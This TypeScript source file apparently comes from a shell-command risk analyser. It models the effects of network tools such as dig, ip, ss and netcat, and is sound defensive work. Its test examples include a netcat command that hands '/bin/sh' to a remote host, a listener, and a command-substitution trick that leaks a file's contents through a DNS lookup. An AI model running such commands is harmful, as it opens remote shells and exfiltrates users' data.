import { optionNames, valueOfOption } from "../../shell/options.ts";
import { carriesOutput, prefixOf, textOf } from "../../shell/value.ts";
import { mayHave, readArguments } from "../arguments.ts";
import type { CommandModel, Use } from "../commandModel.ts";
import type { Effect } from "../effect.ts";
import { effectOn, nothing, opaque, readsFrom } from "../fileEffects.ts";

/** Programs that speak with other machines. */
export const network: readonly CommandModel[] = [
  {
    names: [
      "ping",
      "ping6",
      "traceroute",
      "tracepath",
      "mtr",
      "dig",
      "nslookup",
      "host",
      "whois",
      "ss",
      "netstat",
      "ip",
      "ifconfig",
      "route",
      "arp",
    ],
    kind: "system",
    effects: looking,
    examples: {
      "ip link set eth0 down": ["administer system system:network"],
      "dig -f names.txt": ["read none ./names.txt", "connect remote host:?:?"],
      "ping -c 1 example.com": ["connect none host:example.com:?"],
    },
    counterExamples: ["ip addr", "ss -ltnp", "dig example.com"],
  },
  {
    names: ["nc", "ncat", "netcat"],
    kind: "system",
    effects: connected,
    examples: {
      "nc -zv -w 2 localhost 5432": ["connect none host:localhost:?"],
      "nc -l 4444": ["execute none process:nc (opaque)"],
      "nc -z -e /bin/sh example.com 80": ["execute none process:nc (opaque)"],
      "nc example.com 80": ["execute none process:nc (opaque)"],
      "nc -z $(cat notes).example.com 80": ["read none ./notes", "connect remote host:?:?"],
    },
    counterExamples: ["nc -z -w1 127.0.0.1 8080"],
  },
];

/** With `-z` it only looks whether something listens. Everything else sends what it reads, listens, or runs a program. */
function connected(use: Use): readonly Effect[] {
  const { options, operands, unclear } = readArguments(use.args, optionNames("-w"));
  const looks = options.some(({ name }) => name === "-z") && options.every(({ name }) => /^-[zvnwu46]$/.test(name));
  const [host, ...ports] = operands;
  if (!looks || host === undefined || unclear.some((word) => word !== host))
    return [opaque(use, `${use.program} connects, listens or runs a program, and passes on what it gets`)];
  const carries = carriesOutput(host) || ports.some(carriesOutput);
  const because = `${use.program} -z looks whether something listens there`;
  return [
    effectOn(
      { scheme: "host", name: `${textOf(host) ?? "?"}:?` },
      { verb: "connect", loses: carries ? "remote" : "none", because },
      use,
    ),
  ];
}

function looking(use: Use): readonly Effect[] {
  const { options, operands } = readArguments(use.args, optionNames("-c -i -n -s -w -W -t -p -q -m -I -4 -6 -D -f"));
  const batch = use.program === "dig" ? valueOfOption(options, "-f") : undefined;
  if (batch !== undefined) {
    const because = "dig asks about every line of the file, which tells it to whoever answers";
    return [
      ...readsFrom([batch], use),
      effectOn({ scheme: "host", name: "?:?" }, { verb: "connect", loses: "remote", because }, use),
    ];
  }
  const words = operands.map((word) => textOf(word) ?? "");
  if (/^(?:ip|ifconfig|route|arp)$/.test(use.program)) {
    const changes =
      words.some((word) => /^(?:set|add|del|delete|flush|change|replace|append|up|down|netns|exec)$/.test(word)) ||
      use.args.some((word) => /^-(?:s|d|A|D)$/.test(textOf(word) ?? "") && use.program === "arp");
    return changes
      ? [
          effectOn(
            { scheme: "system", name: "network" },
            { verb: "administer", loses: "system", because: `${use.program} changes the machine's network` },
            use,
          ),
        ]
      : nothing;
  }
  if (/^(?:ss|netstat)$/.test(use.program))
    return mayHave(readArguments(use.args, new Set()).options, "-K", "--kill")
      ? [
          effectOn(
            { scheme: "system", name: "network" },
            { verb: "administer", loses: "system", because: "ss -K closes connections" },
            use,
          ),
        ]
      : nothing;
  const host = operands.find((word) => !prefixOf(word).startsWith("+") && !prefixOf(word).startsWith("@"));
  if (host === undefined) return nothing;
  // A name made up of what a command prints carries that to whoever answers for the domain.
  const carries = carriesOutput(host);
  return [
    effectOn(
      { scheme: "host", name: `${textOf(host) ?? "?"}:?` },
      { verb: "connect", loses: carries ? "remote" : "none", because: `${use.program} asks about the host` },
      use,
    ),
  ];
}
